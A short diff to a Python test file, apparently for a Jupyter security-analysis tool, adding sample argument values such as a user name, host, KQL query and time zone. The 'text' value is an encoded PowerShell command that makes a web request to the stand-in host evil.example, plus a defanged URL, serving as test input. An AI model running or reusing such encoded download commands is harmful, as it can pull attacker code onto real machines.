@@ -9,10 +9,13 @@ from jupyter import Kernel
 
 # What to call each kind of argument with; a call with an argument that is not here fails the test below.
 ARGUMENTS = {
+    "text": "powershell -enc aQB3AHIAIABoAHQAdABwADoALwAvAGUAdgBpAGwALgBlAHgAYQBtAHAAbABlAC8AYQA= hxxp://evil[.]example/b",
     "name": "adelev@contoso.com",
     "host": "SRV-FIN01",
     "KQL text": "SigninLogs | summarize count() by ResultType",
     "folder or file": None,
+    "file or folder": None,
+    "zone": "Europe/Berlin",
 }
 
 
